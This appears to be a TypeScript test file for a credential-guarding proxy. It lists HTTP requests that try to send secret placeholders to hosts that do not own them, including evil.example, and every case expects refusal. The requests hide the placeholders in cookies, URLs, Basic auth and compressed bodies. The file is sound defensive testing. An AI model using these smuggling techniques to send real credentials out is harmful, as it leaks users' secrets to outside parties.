import type { AttackCase } from "./case.ts";

const elsewhere = (title: string, to: string, text: string, plain = false): AttackCase => ({
  class: "placeholder",
  title,
  attack: { kind: "tunnel", to, text, ...(plain ? ({ plain: true } as const) : {}) },
  outcome: "refused",
});
const head = (host: string, line: string, target = "/"): string =>
  `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${line}Connection: close\r\n\r\n`;

/** Which credential's placeholder, and a host that is not its own. */
const strangers = [
  ["anthropic", "free.example"],
  ["anthropic", "api.openai.com"],
  ["openai", "api.anthropic.com"],
  ["openai", "free.example"],
  ["github", "evil.example"],
  ["github", "sentry.io"],
  ["github", "gist.github.com"],
  ["gemini", "free.example"],
  ["npm", "free.example"],
  ["docker", "free.example"],
  ["sentry", "api.github.com"],
  ["pagerduty", "free.example"],
  ["grafana", "free.example"],
  ["acme", "acme.example"],
  ["acme", "api.acme.example.evil.example"],
] as const;

/** A placeholder is worthless, but one on its way elsewhere means that somebody tries: it is stopped and flagged. */
export const placeholderCases: readonly AttackCase[] = [
  ...strangers.map(([id, host]) =>
    elsewhere(
      `The placeholder of ${id} goes to ${host}`,
      `${host}:443`,
      head(host, `Authorization: Bearer {${id}}\r\n`),
    ),
  ),
  ...(
    [
      ["in a header of another name", "X-Note: {github}\r\n"],
      ["in a cookie", "Cookie: a=1; token={github}\r\n"],
      ["in the user agent", "User-Agent: curl {github}\r\n"],
      ["in Basic credentials", "Authorization: Basic {basic:github}\r\n"],
      ["in Basic credentials as the user", "Authorization: Basic {basic-user:github}\r\n"],
      ["in Basic credentials in lower case", "authorization: basic {basic:github}\r\n"],
      ["in the proxy's credentials", "Proxy-Authorization: Basic {basic:github}\r\n"],
      ["amid other text", "X-Note: before{github}after\r\n"],
      ["as the name of a header", "{github}: 1\r\n"],
      ["in the name of a header", "x-{anthropic}-x: 1\r\n"],
    ] as const
  ).map(([where, line]) =>
    elsewhere(`A placeholder goes elsewhere ${where}`, "free.example:443", head("free.example", line)),
  ),
  ...(
    [
      ["in the query", "/?token={github}"],
      ["in the path", "/{github}/x"],
      ["percent-encoded in the query", "/?token={percent:github}"],
      ["half percent-encoded in the path", "/{half:github}"],
    ] as const
  ).map(([where, target]) =>
    elsewhere(`A placeholder goes elsewhere ${where}`, "free.example:443", head("free.example", "", target)),
  ),
  elsewhere(
    "A placeholder goes elsewhere in a small body",
    "free.example:443",
    "POST / HTTP/1.1\r\nHost: free.example\r\nContent-Length: {length:github}\r\nConnection: close\r\n\r\n{github}",
  ),
  ...(
    [
      ["a body in gzip", "Content-Encoding: gzip\r\n", "{gzip:github}"],
      ["a body in zstd", "Content-Encoding: ZSTD\r\n", "{zstd:github}"],
      ["a body of base64 in lines", "", "{lines:github}"],
    ] as const
  ).map(([where, line, body]) =>
    elsewhere(
      `A placeholder goes elsewhere in ${where}`,
      "free.example:443",
      `POST / HTTP/1.1\r\nHost: free.example\r\n${line}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body}`,
    ),
  ),
  elsewhere(
    "A placeholder goes elsewhere over plain HTTP",
    "free.example:80",
    head("free.example", "Authorization: Bearer {github}\r\n"),
    true,
  ),
  elsewhere(
    "A placeholder goes to its own host over plain HTTP",
    "api.github.com:80",
    head("api.github.com", "Authorization: Bearer {github}\r\n"),
    true,
  ),
  elsewhere(
    "A placeholder goes to its own host on another port",
    "api.github.com:8443",
    head("api.github.com:8443", "Authorization: Bearer {github}\r\n"),
  ),
  elsewhere(
    "A placeholder comes to its own host in the URL",
    "api.github.com:443",
    head("api.github.com", "", "/user?access_token={github}"),
  ),
  elsewhere(
    "A placeholder comes to its own host in a header that is no credential",
    "api.github.com:443",
    head("api.github.com", "X-Note: {github}\r\n"),
  ),
  elsewhere(
    "The placeholder of one credential comes to the host of another beside the right one",
    "api.github.com:443",
    head("api.github.com", "Authorization: Bearer {github}\r\nX-Api-Key: {anthropic}\r\n"),
  ),
  elsewhere(
    "The placeholder of a wildcard credential goes to the apex",
    "acme.example:443",
    head("acme.example", "X-Api-Key: {acme}\r\n"),
  ),
];
